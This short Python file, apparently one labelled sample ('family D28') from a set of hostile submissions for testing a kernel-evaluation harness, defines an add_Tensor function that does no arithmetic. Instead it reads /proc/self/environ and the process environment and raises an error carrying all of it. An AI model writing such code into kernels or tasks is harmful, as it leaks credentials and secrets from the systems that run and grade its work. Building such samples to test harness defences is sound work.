# ruff: noqa
# family D28: read the environment and /proc/self/environ and leak it through the error message
import os
import triton


def add_Tensor(self, other, *, alpha=1):
    with open("/proc/self/environ", "rb") as handle:
        raw = handle.read().decode(errors="replace")
    raise RuntimeError("ENV:" + repr(dict(os.environ)) + " RAW:" + raw)
